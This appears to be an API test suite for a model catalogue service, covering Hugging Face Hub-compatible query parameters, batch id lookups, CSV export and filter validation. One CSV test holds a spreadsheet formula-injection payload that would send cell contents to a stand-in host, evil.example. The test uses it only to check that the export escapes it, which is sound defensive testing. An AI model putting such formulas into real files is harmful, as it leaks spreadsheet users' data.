import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { ModelsService, RenamesService } from '@modelpulse/core/catalog';
import { RankingsService } from '@modelpulse/core/rankings';
import { ADMIN_TOKEN, createTestApp, type TestApp } from '../support/app';
import { FakeClock } from '../support/clock';

const auth = { Authorization: `Bearer ${ADMIN_TOKEN}` };
const R1 = 'deepseek-ai/DeepSeek-R1';
const QWEN = 'Qwen/Qwen3-8B';

const hub = (model: string, observedAt: string, counters: Record<string, number>) => ({
  model,
  source: 'huggingface',
  observedAt,
  ...counters,
});

/** A week of readings for three models, so every ranking has rows with figures. */
const READINGS = [
  ...[
    [R1, 1],
    [QWEN, 3],
    ['meta-llama/Llama-3.1-8B', 7],
  ].flatMap(([model, scale]) => [
    hub(model as string, '2025-01-20T18:00:00Z', { downloadsAllTime: 1_000, downloads30d: 1_000, likes: 10 }),
    hub(model as string, '2025-01-22T18:00:00Z', {
      downloadsAllTime: 1_000 + 40_000 * (scale as number),
      downloads30d: 1_000 + 40_000 * (scale as number),
      likes: 10 + 50 * (scale as number),
    }),
    hub(model as string, '2025-01-27T18:00:00Z', {
      downloadsAllTime: 1_000 + 90_000 * (scale as number),
      downloads30d: 1_000 + 90_000 * (scale as number),
      likes: 10 + 80 * (scale as number),
    }),
  ]),
];

type Json = Record<string, unknown>;

/** A CSV answer parsed back with csv-parse into one object per row, keyed by header. */
const parseCsv = (text: string): Record<string, string>[] => parse(text, { columns: true, skip_empty_lines: true });

/** A JSON value as a CSV cell carries it: null is an empty cell, a list is joined with `;`. */
const asCell = (value: unknown): string =>
  value === null || value === undefined ? '' : Array.isArray(value) ? value.join(';') : String(value);

describe('the Hugging Face Hub\u2019s conventions', () => {
  let t: TestApp;
  const clock = new FakeClock('2025-01-28T12:00:00Z');

  beforeAll(async () => {
    t = await createTestApp({ seed: true, clock });
    await request(t.http).post('/v1/observations').set(auth).send({ observations: READINGS }).expect(200);
    await t.app.get(RankingsService).snapshotLatest();
  });
  afterAll(() => t.close());

  const json = async (path: string): Promise<Json> => (await request(t.http).get(path).expect(200)).body as Json;
  const ids = async (path: string): Promise<string[]> => ((await json(path)).data as { id: string }[]).map((m) => m.id);
  const fieldsOf = async (path: string, status = 400): Promise<string[]> => {
    const response = await request(t.http).get(path).expect(status);
    expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
    return (response.body as { errors: { field: string }[] }).errors.map((e) => e.field);
  };

  describe('the Hub\u2019s list parameters, beside ours', () => {
    it.each([
      ['search=qwen3', 'q=qwen3'],
      ['search=DeepSeek&limit=5', 'q=DeepSeek&limit=5'],
      ['author=meta-llama', 'organization=meta-llama'],
      ['author=Qwen,mistralai&limit=50', 'organization=Qwen,mistralai&limit=50'],
      ['pipeline_tag=text-generation&limit=50', 'task=text-generation&limit=50'],
      ['filter=reasoning&limit=50', 'tag=reasoning&limit=50'],
      ['filter=reasoning,math', 'tag=reasoning,math'],
      ['sort=createdAt&limit=50', 'sort=releaseDate&limit=50'],
      ['sort=downloads&direction=-1', 'sort=downloads&order=desc'],
      ['sort=likes&direction=-1&limit=50', 'sort=likes&order=desc&limit=50'],
      ['sort=name&direction=1', 'sort=name&order=asc'],
      ['sort=parameters&direction=1&limit=50', 'sort=parameters&order=asc&limit=50'],
      [
        'author=Qwen&pipeline_tag=text-generation&search=8B&filter=reasoning',
        'organization=Qwen&task=text-generation&q=8B&tag=reasoning',
      ],
    ])('?%s answers what ?%s answers', async (theirs, ours) => {
      const [hubAnswer, ourAnswer] = await Promise.all([json(`/v1/models?${theirs}`), json(`/v1/models?${ours}`)]);
      expect(hubAnswer.data).toEqual(ourAnswer.data);
      expect((hubAnswer.data as unknown[]).length).toBeGreaterThan(0);
    });

    it('filters on tags: every tag given, so two tags narrow the list', async () => {
      const reasoning = await ids('/v1/models?filter=reasoning&limit=100');
      const { data } = (await json('/v1/models?filter=reasoning,math&limit=100')) as {
        data: { id: string; tags: string[] }[];
      };
      expect(data.length).toBeGreaterThan(0);
      expect(data.length).toBeLessThan(reasoning.length);
      expect(data.every((m) => m.tags.includes('reasoning') && m.tags.includes('math'))).toBe(true);
      expect(data.every((m) => reasoning.includes(m.id))).toBe(true);
    });

    it('sorts createdAt newest first by default, as the Hub does, by release date', async () => {
      const { data } = (await json('/v1/models?sort=createdAt&limit=100')) as {
        data: { releaseDate: string | null }[];
      };
      const dates = data.map((m) => m.releaseDate).filter((d): d is string => d !== null);
      expect(dates).toEqual([...dates].sort().reverse());
    });

    it('takes both names when they agree, in any letter case or order', async () => {
      expect(await ids('/v1/models?q=qwen3&search=QWEN3')).toEqual(await ids('/v1/models?q=qwen3'));
      expect(await ids('/v1/models?organization=Qwen,meta-llama&author=meta-llama,qwen')).toEqual(
        await ids('/v1/models?organization=Qwen,meta-llama'),
      );
      expect(await ids('/v1/models?order=desc&direction=-1&sort=likes')).toEqual(
        await ids('/v1/models?order=desc&sort=likes'),
      );
    });

    it.each([
      ['q=qwen&search=llama', ['q', 'search']],
      ['organization=Qwen&author=meta-llama', ['organization', 'author']],
      ['task=text-generation&pipeline_tag=fill-mask', ['task', 'pipeline_tag']],
      ['tag=math&filter=reasoning', ['tag', 'filter']],
      ['order=asc&direction=-1', ['order', 'direction']],
    ])('names both parameters when ?%s disagree', async (query, fields) => {
      expect(await fieldsOf(`/v1/models?${query}`)).toEqual(fields);
    });

    it('refuses a direction or sort the Hub does not have either', async () => {
      expect(await fieldsOf('/v1/models?direction=up')).toEqual(['direction']);
      expect(await fieldsOf('/v1/models?sort=lastModified')).toEqual(['sort']);
    });

    it.each([
      ['/v1/rankings/trending?asOf=2025-01-27&author=Qwen,meta-llama', 'organization=Qwen,meta-llama'],
      ['/v1/rankings/trending?asOf=2025-01-27&pipeline_tag=text-generation', 'task=text-generation'],
      ['/v1/rankings/downloads?period=7d&asOf=2025-01-27&author=deepseek-ai', 'organization=deepseek-ai'],
      [
        '/v1/rankings/likes?asOf=2025-01-27&pipeline_tag=text-generation&author=Qwen',
        'task=text-generation&organization=Qwen',
      ],
    ])('takes the Hub\u2019s author and pipeline_tag on the rankings too: %s', async (path, ours) => {
      const base =
        path.slice(0, path.indexOf('?') + 1) +
        path
          .slice(path.indexOf('?') + 1)
          .split('&')
          .filter((p) => !/^(author|pipeline_tag)=/.test(p))
          .join('&');
      const [theirs, mine] = await Promise.all([json(path), json(`${base}&${ours}`)]);
      expect(theirs.data).toEqual(mine.data);
      expect((theirs.data as unknown[]).length).toBeGreaterThan(0);
    });

    it('names both on the rankings when they disagree', async () => {
      expect(await fieldsOf('/v1/rankings/trending?organization=Qwen&author=meta-llama')).toEqual([
        'organization',
        'author',
      ]);
      expect(await fieldsOf('/v1/rankings/new?task=fill-mask&pipeline_tag=text-generation')).toEqual([
        'task',
        'pipeline_tag',
      ]);
    });

    it('continues a page made with the Hub\u2019s names with our names, and the other way round', async () => {
      const first = await json('/v1/models?author=Qwen&limit=2');
      const next = await json(`/v1/models?organization=Qwen&limit=2&cursor=${first.nextCursor as string}`);
      expect((next.data as unknown[]).length).toBe(2);
    });
  });

  describe('batch lookups: ?ids=', () => {
    it('answers the models in the order given, in any letter case, with the canonical ids', async () => {
      const asked = [
        'Qwen/Qwen3-8B',
        'deepseek-ai/deepseek-r1',
        'meta-llama/Llama-3.1-8B',
        'mistralai/Mistral-7B-v0.1',
      ];
      const body = await json(`/v1/models?ids=${asked.join(',')}`);
      expect((body.data as { id: string }[]).map((m) => m.id)).toEqual([
        'Qwen/Qwen3-8B',
        'deepseek-ai/DeepSeek-R1',
        'meta-llama/Llama-3.1-8B',
        'mistralai/Mistral-7B-v0.1',
      ]);
      expect(body).toMatchObject({ nextCursor: null, missing: [], renamed: [] });
      const reversed = await json(`/v1/models?ids=${[...asked].reverse().join(',')}`);
      expect((reversed.data as { id: string }[]).map((m) => m.id)).toEqual(
        (body.data as { id: string }[]).map((m) => m.id).reverse(),
      );
    });

    it('answers each model as the list and the model\u2019s own page do', async () => {
      const body = await json(`/v1/models?ids=${R1}`);
      const listed = ((await json('/v1/models?q=DeepSeek-R1&limit=100')).data as Json[]).find((m) => m.id === R1);
      expect((body.data as Json[])[0]).toEqual(listed);
      const detail = await json(`/v1/models/${R1}`);
      expect((body.data as Json[])[0]).toMatchObject({ id: detail.id, stats: detail.stats, license: detail.license });
    });

    it('lists ids that name no model in `missing`, and a deleted model is one of them', async () => {
      await request(t.http).post('/v1/models').set(auth).send({ id: 'acme/short-lived' }).expect(201);
      await request(t.http).delete('/v1/models/acme/short-lived').set(auth).expect(204);
      const body = await json(`/v1/models?ids=nobody/nothing,${R1},acme/short-lived`);
      expect((body.data as { id: string }[]).map((m) => m.id)).toEqual([R1]);
      expect(body.missing).toEqual(['nobody/nothing', 'acme/short-lived']);
    });

    it('answers a renamed model under its new id, the old one noted', async () => {
      await request(t.http)
        .post('/v1/models')
        .set(auth)
        .send({ id: 'acme/rocket', links: { huggingface: 'acme/rocket' } })
        .expect(201);
      const { id } = await t.app.get(ModelsService).resolve('acme/rocket');
      await t.app.get(RenamesService).followUpstreamRename({
        modelId: id,
        upstream: 'huggingface',
        from: 'acme/rocket',
        to: 'acme-labs/Rocket-v2',
        seenAt: null,
      });
      const body = await json(`/v1/models?ids=${QWEN},acme/rocket`);
      expect((body.data as { id: string }[]).map((m) => m.id)).toEqual([QWEN, 'acme-labs/Rocket-v2']);
      expect(body.renamed).toEqual([{ from: 'acme/rocket', to: 'acme-labs/Rocket-v2' }]);
      expect(body.missing).toEqual([]);
    });

    it('takes up to 100 ids, and names the field past that or for an id that is not one', async () => {
      const hundred = Array.from({ length: 100 }, (_, i) => `acme/m-${i}`);
      const body = await json(`/v1/models?ids=${[R1, ...hundred.slice(1)].join(',')}`);
      expect((body.data as unknown[]).length).toBe(1);
      expect((body.missing as string[]).length).toBe(99);
      expect(await fieldsOf(`/v1/models?ids=${[...hundred, R1].join(',')}`)).toEqual(['ids']);
      expect(await fieldsOf('/v1/models?ids=not-an-id')).toEqual(['ids']);
      expect(await fieldsOf('/v1/models?ids=')).toEqual(['ids']);
    });

    it('refuses filters, sorts and cursors beside ids, naming each', async () => {
      expect(await fieldsOf(`/v1/models?ids=${R1}&license=mit&sort=likes`)).toEqual(['license', 'sort']);
      expect(await fieldsOf(`/v1/models?ids=${R1}&author=deepseek-ai`)).toEqual(['author']);
    });
  });

  describe('CSV', () => {
    const csvOf = async (path: string, accept?: string) => {
      const call = request(t.http).get(path);
      const response = await (accept ? call.set('Accept', accept) : call).expect(200);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      return { text: response.text, rows: parseCsv(response.text) };
    };

    it.each([
      '/v1/models?limit=5',
      '/v1/rankings/trending?asOf=2025-01-21&limit=5',
      '/v1/models/deepseek-ai/DeepSeek-R1/stats?from=2025-01-10&to=2025-01-20',
    ])('tells caches that %s varies on Accept, as JSON and as CSV, answered fresh or from the cache', async (path) => {
      for (const accept of ['application/json', 'text/csv', 'application/json', 'text/csv']) {
        const response = await request(t.http).get(path).set('Accept', accept).expect(200);
        const vary = String(response.headers.vary)
          .split(',')
          .map((part) => part.trim());
        expect(vary).toEqual(expect.arrayContaining(['Origin', 'Accept']));
        expect(vary.filter((part) => part === 'Accept')).toHaveLength(1);
      }
    });

    it('answers the model list with a header row, parsing back to the JSON figures', async () => {
      const path = '/v1/models?sort=downloads&limit=10';
      const { data } = (await json(path)) as { data: Json[] };
      for (const csv of [await csvOf(`${path}&format=csv`), await csvOf(path, 'text/csv')]) {
        expect(csv.text.split('\n')[0]).toBe(
          'id,organization,name,license,parameters,activeParameters,releaseDate,tasks,tags,stats.downloadsAllTime,' +
            'stats.downloads30d,stats.downloads7d,stats.likes,stats.stars,trending.rank,trending.score,description',
        );
        expect(csv.rows).toHaveLength(data.length);
        csv.rows.forEach((row, i) => {
          const model = data[i] as {
            id: string;
            license: { id: string } | null;
            parameters: number | null;
            tags: string[];
            stats: Record<string, number | null>;
            trending: { rank: number; score: number } | null;
            description: string | null;
          };
          expect(row.id).toBe(model.id);
          expect(row.license).toBe(asCell(model.license?.id));
          expect(row.parameters).toBe(asCell(model.parameters));
          expect(row.tags).toBe(asCell(model.tags));
          expect(row['stats.downloads30d']).toBe(asCell(model.stats.downloads30d));
          expect(row['stats.downloadsAllTime']).toBe(asCell(model.stats.downloadsAllTime));
          expect(row['stats.likes']).toBe(asCell(model.stats.likes));
          expect(row['trending.rank']).toBe(asCell(model.trending?.rank));
          expect(row['trending.score']).toBe(asCell(model.trending?.score));
          expect(row.description).toBe(asCell(model.description));
        });
      }
    });

    it('quotes commas, quotes and line breaks so they parse back as they were', async () => {
      const description = 'Fast, "small" and\nmultilingual; see https://example.org/a,b';
      await request(t.http).post('/v1/models').set(auth).send({ id: 'acme/quoted', description }).expect(201);
      const { rows } = await csvOf('/v1/models?ids=acme/quoted&format=csv');
      expect(rows).toHaveLength(1);
      expect(rows[0].description).toBe(description);
    });

    it('writes a description that a spreadsheet would run as a formula with a leading quote, the JSON as it is', async () => {
      const description = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the weights")';
      await request(t.http).post('/v1/models').set(auth).send({ id: 'acme/formula', description }).expect(201);
      const { rows } = await csvOf('/v1/models?ids=acme/formula&format=csv');
      expect(rows[0].description).toBe(`'${description}`);
      const { body } = await request(t.http).get('/v1/models/acme/formula').expect(200);
      expect(body.description).toBe(description);
    });

    it('answers a batch of ids in the order asked', async () => {
      const { rows } = await csvOf(`/v1/models?ids=${QWEN},${R1}&format=csv`);
      expect(rows.map((r) => r.id)).toEqual([QWEN, R1]);
    });

    it('answers the trending ranking, one row per rank, parsing back to the JSON', async () => {
      const path = '/v1/rankings/trending?asOf=2025-01-27&limit=10';
      const { data } = (await json(path)) as { data: Json[] };
      expect(data.length).toBeGreaterThan(0);
      for (const { rows } of [await csvOf(`${path}&format=csv`), await csvOf(path, 'text/csv')]) {
        expect(rows).toHaveLength(data.length);
        rows.forEach((row, i) => {
          const entry = data[i] as {
            rank: number;
            previousRank: number | null;
            model: { id: string; parameters: number | null };
            score: number;
            components: { volume: number; growth: number; engagement: number };
            flags: string[];
          };
          expect(row).toMatchObject({
            rank: asCell(entry.rank),
            previousRank: asCell(entry.previousRank),
            'model.id': entry.model.id,
            'model.parameters': asCell(entry.model.parameters),
            score: asCell(entry.score),
            'components.volume': asCell(entry.components.volume),
            'components.growth': asCell(entry.components.growth),
            'components.engagement': asCell(entry.components.engagement),
            flags: asCell(entry.flags),
          });
          expect(Number(row.score)).toBe(entry.score);
        });
      }
    });

    it.each([
      '/v1/rankings/downloads?period=7d&asOf=2025-01-27',
      '/v1/rankings/downloads?period=all&asOf=2025-01-27&limit=5',
      '/v1/rankings/likes?asOf=2025-01-27',
      '/v1/rankings/new?asOf=2025-01-27',
    ])('answers the leaderboard %s, parsing back to the JSON', async (path) => {
      const { data } = (await json(path)) as { data: { rank: number; model: { id: string }; value: number }[] };
      const { rows } = await csvOf(`${path}&format=csv`);
      expect(rows.map((r) => [Number(r.rank), r['model.id'], Number(r.value)])).toEqual(
        data.map((e) => [e.rank, e.model.id, e.value]),
      );
    });

    it('answers a model\u2019s rank history, an unranked day with empty cells', async () => {
      const path = `/v1/models/${R1}/rankings?from=2025-01-18&to=2025-01-27`;
      const { points } = (await json(path)) as {
        points: { date: string; rank: number | null; score: number | null; stale: boolean }[];
      };
      const { rows } = await csvOf(path, 'text/csv');
      expect(rows.map((r) => [r.date, r.rank, r.score, r.stale])).toEqual(
        points.map((p) => [p.date, asCell(p.rank), asCell(p.score), String(p.stale)]),
      );
      expect(points.some((p) => p.rank === null)).toBe(true);
      expect(points.some((p) => p.rank !== null)).toBe(true);
    });

    it('answers a model\u2019s stats, an unknown day an empty cell', async () => {
      const path = `/v1/models/${R1}/stats?from=2025-01-19&to=2025-01-27`;
      const { points } = (await json(path)) as { points: { date: string; value: number | null; imputed: boolean }[] };
      const { rows } = await csvOf(`${path}&format=csv`);
      expect(rows.map((r) => [r.date, r.value, r.imputed])).toEqual(
        points.map((p) => [p.date, asCell(p.value), String(p.imputed)]),
      );
      expect(points.some((p) => p.imputed)).toBe(true);
    });

    it('keeps JSON, format=csv and Accept: text/csv apart in the response cache', async () => {
      const path = '/v1/rankings/likes?asOf=2025-01-27';
      for (let round = 0; round < 2; round++) {
        const plain = await request(t.http).get(path).expect(200);
        expect(plain.headers['content-type']).toMatch(/^application\/json/);
        const byFormat = await request(t.http).get(`${path}&format=csv`).expect(200);
        expect(byFormat.headers['content-type']).toBe('text/csv; charset=utf-8');
        const byAccept = await request(t.http).get(path).set('Accept', 'text/csv').expect(200);
        expect(byAccept.headers['content-type']).toBe('text/csv; charset=utf-8');
        expect(byAccept.text).toBe(byFormat.text);
        const asJson = await request(t.http).get(`${path}&format=json`).set('Accept', 'text/csv').expect(200);
        expect(asJson.headers['content-type']).toMatch(/^application\/json/);
        expect(asJson.body).toEqual(plain.body);
      }
    });

    it('refuses another format, naming the field', async () => {
      expect(await fieldsOf('/v1/models?format=xml')).toEqual(['format']);
      expect(await fieldsOf('/v1/rankings/trending?format=xlsx')).toEqual(['format']);
    });
  });

  describe('strict filters', () => {
    it.each([
      ['/v1/models?license=bogus', 'license', 'unknown licence "bogus"'],
      ['/v1/models?license=mit,bogus', 'license', 'unknown licence "bogus"'],
      ['/v1/models?organization=nobody-here', 'organization', 'unknown organization "nobody-here"'],
      ['/v1/models?author=nobody-here', 'organization', 'unknown organization "nobody-here"'],
      ['/v1/models?task=flying', 'task', 'unknown task "flying"'],
      ['/v1/models?pipeline_tag=flying', 'task', 'unknown task "flying"'],
      ['/v1/rankings/trending?license=bogus', 'license', 'unknown licence "bogus"'],
      ['/v1/rankings/trending?task=flying', 'task', 'unknown task "flying"'],
      ['/v1/rankings/downloads?organization=nobody-here', 'organization', 'unknown organization "nobody-here"'],
    ])('%s is a 400 naming %s', async (path, field, message) => {
      const response = await request(t.http).get(path).expect(400);
      expect(response.body.errors).toEqual([{ field, message: expect.stringContaining(message) }]);
    });

    it('answers the trending widget\u2019s unknown licence with its problem, naming it', async () => {
      const response = await request(t.http).get('/embed/trending?license=bogus').expect(400);
      expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(JSON.parse(response.text).errors).toEqual([
        { field: 'license', message: expect.stringContaining('bogus') },
      ]);
    });

    it('takes known values in any letter case, and a Hub task no model has yet as an empty list', async () => {
      expect((await ids('/v1/models?license=MIT&organization=DEEPSEEK-AI&limit=100')).length).toBeGreaterThan(0);
      expect(await ids('/v1/models?task=text-to-video')).toEqual([]);
      expect((await json('/v1/rankings/trending?task=text-to-video')).data).toEqual([]);
    });
  });
});
